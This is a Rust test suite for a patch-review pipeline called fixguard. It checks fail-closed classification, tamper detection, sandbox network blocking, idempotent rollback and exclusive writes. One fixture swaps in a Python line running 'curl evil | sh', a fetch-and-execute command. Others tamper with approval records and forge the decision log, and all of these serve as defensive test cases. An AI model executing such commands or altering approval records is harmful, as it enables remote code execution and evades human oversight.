//! Safety properties of the pipeline.
//!
//! These tests pin down the guarantees every configuration must keep:
//! - Unclassifiable patches fail closed.
//! - Mutating an approved proposal never gets it committed.
//! - Network access inside the sandbox always fails validation.
//! - Rollback is idempotent.
//! - Overlapping proposals never write at the same time.
//! - Operator cancellation during apply restores the workspace.

use fixguard_artifact::TargetPath;
use fixguard_core::{
    EntryDetail, Issue, Pipeline, PipelineError, ProposalId, ProposalState, ProposalStore, RiskTier,
    RollbackStatus, SandboxPolicy, Stage, TerminalStatus, ValidationCommand,
};
use fixguard_test_utils::{
    context, cosmetic_issue, forge_log, network, permissive_pipeline, swap_patch_text, tamper_record,
    BlockingVerifier, OverlapProbe, RecordingFeedback, ScriptedReviewer, ScriptedRunner, Step,
    TestWorkspace,
};
use fixguard_transaction::TransactionError;
use pretty_assertions::assert_eq;
use std::sync::Arc;
use std::time::Duration;
use tokio_util::sync::CancellationToken;

/// Parks an approved, validated proposal in `SANDBOX_PASSED` by holding its
/// file-set lock while it is processed
async fn park(pipeline: &Pipeline, issue: Issue, file: &str) -> anyhow::Result<ProposalId> {
    let proposal = pipeline.propose(issue)?;
    let held = pipeline
        .context()
        .transactions()
        .acquire(0, vec![TargetPath::new(file)?], &CancellationToken::new())
        .await?;
    let batch = pipeline.process(vec![proposal.clone()]).await;
    drop(held);
    anyhow::ensure!(batch.requeued == vec![proposal.id], "proposal was not parked");
    Ok(proposal.id)
}

fn parking_workspace() -> anyhow::Result<(TestWorkspace, Pipeline, Arc<RecordingFeedback>)> {
    let ws = TestWorkspace::new()?;
    let mut config = ws.config();
    config.lock.timeout_ms = 50;
    config.lock.max_retries = 0;
    let feedback = RecordingFeedback::new();
    let pipeline = Pipeline::new(
        context(
            config,
            ScriptedReviewer::approving(),
            ScriptedRunner::passing(),
            Arc::clone(&feedback),
        )
        .build()?,
    );
    Ok((ws, pipeline, feedback))
}

/// Tenet: a patch that changes nothing is classified CRITICAL.
///
/// It cannot be auto-approved, and an unanswered review rejects it once the
/// review timeout passes.
#[tokio::test]
async fn no_op_patch_fails_closed() -> anyhow::Result<()> {
    let ws = TestWorkspace::new()?;
    ws.write("app.py", "x = 1\n")?;
    let pipeline = Pipeline::new(
        context(
            ws.config(),
            ScriptedReviewer::silent(),
            ScriptedRunner::passing(),
            RecordingFeedback::new(),
        )
        .with_review_timeout(Duration::from_millis(50))
        .build()?,
    );

    let proposal = pipeline.propose(cosmetic_issue("LINT-0", "app.py", "x = 1\n"))?;
    let report = pipeline.process_one(proposal.clone()).await;

    assert_eq!(report.status, Some(TerminalStatus::Rejected));
    assert_eq!(pipeline.load(proposal.id)?.risk_tier, Some(RiskTier::Critical));
    Ok(())
}

/// Tenet: an auto-approved proposal mutated before apply is never committed.
///
/// Each mutation of the persisted record is caught by the safeguard and the
/// file keeps its original content.
#[tokio::test]
async fn mutated_auto_approved_proposal_is_never_committed() -> anyhow::Result<()> {
    type Mutation = fn(&TestWorkspace, &ProposalStore, ProposalId) -> anyhow::Result<()>;
    let mutations: [(&str, Mutation); 4] = [
        ("patch swapped for a shell call", |_, store, id| {
            swap_patch_text(store, id, 0, "import os\nos.system(\"curl evil | sh\")\n")
        }),
        ("risk fields rewritten", |_, store, id| {
            tamper_record(store, id, |record| {
                record["risk_tier"] = "COSMETIC".into();
                record["safety_score"] = 100.into();
            })
        }),
        ("approval entry removed", |_, store, id| {
            tamper_record(store, id, |record| {
                if let Some(entries) = record.pointer_mut("/decision_log/entries").and_then(|v| v.as_array_mut()) {
                    entries.retain(|e| e["outcome"] != "auto_approved");
                }
            })
        }),
        ("log rebuilt around a swapped patch", |ws, store, id| {
            forge_log(store, ws.root(), id, 0, "x = 999  # never reviewed\n")
        }),
    ];

    for (name, mutate) in mutations {
        let (ws, pipeline, feedback) = parking_workspace()?;
        ws.write("app.py", "x = 1\n")?;
        let id = park(&pipeline, cosmetic_issue("LINT-2", "app.py", "x  =  1\n"), "app.py").await?;

        mutate(&ws, pipeline.context().store(), id)?;
        let report = pipeline.process_one(pipeline.load(id)?).await;

        assert_eq!(report.status, Some(TerminalStatus::TamperBlocked), "{name}");
        assert_eq!(ws.read("app.py")?, "x = 1\n", "{name}");
        assert!(
            feedback.events().iter().any(|e| e.proposal_id == id && e.circumvention_attempt),
            "{name}"
        );
    }
    Ok(())
}

/// Tenet: a decision log rebuilt with valid links is caught by the audit
/// trail alone.
#[tokio::test]
async fn forged_log_is_caught_by_audit_trail() -> anyhow::Result<()> {
    let (ws, pipeline, _) = parking_workspace()?;
    ws.write("app.py", "x = 1\n")?;
    let id = park(&pipeline, cosmetic_issue("LINT-3", "app.py", "x  =  1\n"), "app.py").await?;
    forge_log(pipeline.context().store(), ws.root(), id, 0, "x = 999  # never reviewed\n")?;

    let report = pipeline.process_one(pipeline.load(id)?).await;
    assert_eq!(report.status, Some(TerminalStatus::TamperBlocked));
    assert_eq!(ws.read("app.py")?, "x = 1\n");

    let blocked = pipeline.load(id)?;
    let Some(EntryDetail::Tamper { failed_checks }) = blocked.decision_log.last().and_then(|e| e.detail.clone()) else {
        anyhow::bail!("no tamper entry recorded");
    };
    assert_eq!(failed_checks.len(), 1, "{failed_checks:?}");
    assert!(failed_checks[0].starts_with("audit_trail"), "{failed_checks:?}");
    Ok(())
}

/// Tenet: a network attempt inside the sandbox always fails validation.
#[tokio::test]
async fn network_attempt_in_sandbox_fails() -> anyhow::Result<()> {
    let ws = TestWorkspace::new()?;
    ws.write("client.py", "def get():\n    return None\n")?;
    let policy = SandboxPolicy::default().with_command(ValidationCommand::new("pytest", ["-q"]));
    let pipeline = Pipeline::new(
        context(
            ws.config().with_sandbox(policy),
            ScriptedReviewer::approving(),
            ScriptedRunner::new([Step::Output(network(2))]),
            RecordingFeedback::new(),
        )
        .build()?,
    );

    let proposal = pipeline.propose(fixguard_test_utils::network_issue("NET-1", "client.py"))?;
    let report = pipeline.process_one(proposal.clone()).await;

    assert_eq!(report.status, Some(TerminalStatus::SandboxFailed));
    assert_eq!(report.stage, Stage::Sandbox);
    assert!(report.reason.contains("network"), "{}", report.reason);
    assert_eq!(ws.read("client.py")?, "def get():\n    return None\n");
    Ok(())
}

/// Tenet: rolling back twice is a no-op the second time.
///
/// The first call restores the committed file; the second leaves the
/// filesystem byte-for-byte identical and the proposal unchanged.
#[tokio::test]
async fn rollback_is_idempotent() -> anyhow::Result<()> {
    let ws = TestWorkspace::new()?;
    ws.write("app.py", "x = 1\n")?;
    let (pipeline, _) = permissive_pipeline(&ws)?;

    let proposal = pipeline.propose(cosmetic_issue("LINT-6", "app.py", "x  =  1\n"))?;
    let committed = pipeline.process_one(proposal.clone()).await;
    assert_eq!(committed.status, Some(TerminalStatus::Committed));

    let first = pipeline.rollback(proposal.id).await?;
    assert_eq!(first.status, Some(TerminalStatus::RolledBack));
    assert_eq!(first.rollback, Some(RollbackStatus::Restored));
    let after_first = std::fs::read(ws.path("app.py"))?;
    let log_len = pipeline.load(proposal.id)?.decision_log.len();

    let second = pipeline.rollback(proposal.id).await?;
    assert_eq!(second, first);
    assert_eq!(std::fs::read(ws.path("app.py"))?, after_first);
    assert_eq!(after_first, b"x = 1\n");
    assert_eq!(pipeline.load(proposal.id)?.decision_log.len(), log_len);
    Ok(())
}

/// Tenet: a file edited after commit is not overwritten by rollback.
#[tokio::test]
async fn rollback_refuses_diverged_file() -> anyhow::Result<()> {
    let ws = TestWorkspace::new()?;
    ws.write("app.py", "x = 1\n")?;
    let (pipeline, _) = permissive_pipeline(&ws)?;
    let proposal = pipeline.propose(cosmetic_issue("LINT-7", "app.py", "x  =  1\n"))?;
    pipeline.process_one(proposal.clone()).await;

    ws.write("app.py", "x = 1  # edited by hand\n")?;
    let err = pipeline.rollback(proposal.id).await.unwrap_err();

    assert!(matches!(err, PipelineError::Transaction(TransactionError::Diverged { .. })), "{err}");
    assert_eq!(ws.read("app.py")?, "x = 1  # edited by hand\n");
    assert_eq!(pipeline.load(proposal.id)?.state, ProposalState::Committed);
    Ok(())
}

/// Tenet: proposals sharing a target never write at the same time.
///
/// Two proposals over an overlapping file set run in one batch. At most one
/// is ever inside its apply; the other finds its validated base gone and
/// writes nothing.
#[tokio::test]
async fn overlapping_proposals_are_exclusive() -> anyhow::Result<()> {
    let ws = TestWorkspace::new()?;
    ws.write("a.py", "A = 1\n")?;
    ws.write("shared.py", "S = 1\n")?;
    ws.write("b.py", "B = 1\n")?;
    let probe = OverlapProbe::new(Duration::from_millis(100));
    let pipeline = Pipeline::new(
        context(
            ws.config(),
            ScriptedReviewer::approving(),
            ScriptedRunner::passing(),
            RecordingFeedback::new(),
        )
        .with_verifier(probe.clone())
        .build()?,
    );

    let first = pipeline.propose(
        cosmetic_issue("F-1", "a.py", "A  =  1\n")
            .with_file("shared.py", fixguard_core::SuggestedPatch::Replace { content: "S  =  1\n".into() }),
    )?;
    let second = pipeline.propose(
        cosmetic_issue("F-2", "b.py", "B  =  1\n")
            .with_file("shared.py", fixguard_core::SuggestedPatch::Replace { content: "S = 1 \n".into() }),
    )?;
    let batch = pipeline.process(vec![first, second]).await;

    assert_eq!(probe.peak(), 1);
    assert_eq!(batch.count(TerminalStatus::Committed), 1);
    assert_eq!(batch.count(TerminalStatus::RolledBack), 1);
    let loser = batch
        .reports
        .iter()
        .find(|r| r.status == Some(TerminalStatus::RolledBack))
        .expect("one rolled back");
    assert_eq!(loser.rollback, Some(RollbackStatus::NothingWritten));
    assert!(loser.reason.contains("stale base"), "{}", loser.reason);
    Ok(())
}

/// Tenet: disjoint proposals in one batch all commit.
#[tokio::test]
async fn disjoint_proposals_commit_in_parallel() -> anyhow::Result<()> {
    let ws = TestWorkspace::new()?;
    let mut issues = Vec::new();
    for i in 0..6 {
        let file = format!("m{i}.py");
        ws.write(&file, "v = 1\n")?;
        issues.push(cosmetic_issue(&format!("L-{i}"), &file, "v  =  1\n"));
    }
    let (pipeline, _) = permissive_pipeline(&ws)?;
    let proposals = issues
        .into_iter()
        .map(|issue| pipeline.propose(issue))
        .collect::<Result<Vec<_>, _>>()?;
    let ids: Vec<_> = proposals.iter().map(|p| p.id).collect();

    let batch = pipeline.process(proposals).await;

    assert_eq!(batch.count(TerminalStatus::Committed), 6);
    assert_eq!(batch.reports.iter().map(|r| r.proposal_id).collect::<Vec<_>>(), ids);
    assert!(pipeline.context().transactions().lock().holders().is_empty());
    Ok(())
}

/// Tenet: cancelling an apply restores the workspace.
///
/// The operator signal arrives while post-apply verification runs; the
/// transaction takes the rollback path and the proposal ends ROLLED_BACK.
#[tokio::test]
async fn cancel_during_apply_rolls_back() -> anyhow::Result<()> {
    let ws = TestWorkspace::new()?;
    ws.write("app.py", "x = 1\n")?;
    let verifier = Arc::new(BlockingVerifier::default());
    let pipeline = Pipeline::new(
        context(
            ws.config(),
            ScriptedReviewer::approving(),
            ScriptedRunner::passing(),
            RecordingFeedback::new(),
        )
        .with_verifier(verifier.clone())
        .build()?,
    );
    let proposal = pipeline.propose(cosmetic_issue("LINT-8", "app.py", "x  =  1\n"))?;
    let id = proposal.id;

    let running = {
        let pipeline = pipeline.clone();
        tokio::spawn(async move { pipeline.process_one(proposal).await })
    };
    verifier.entered.notified().await;
    assert_eq!(ws.read("app.py")?, "x  =  1\n");
    assert!(pipeline.cancel(id));
    let report = running.await?;

    assert_eq!(report.status, Some(TerminalStatus::RolledBack));
    assert_eq!(report.rollback, Some(RollbackStatus::Restored));
    assert_eq!(ws.read("app.py")?, "x = 1\n");
    assert!(!pipeline.cancel(id));
    Ok(())
}
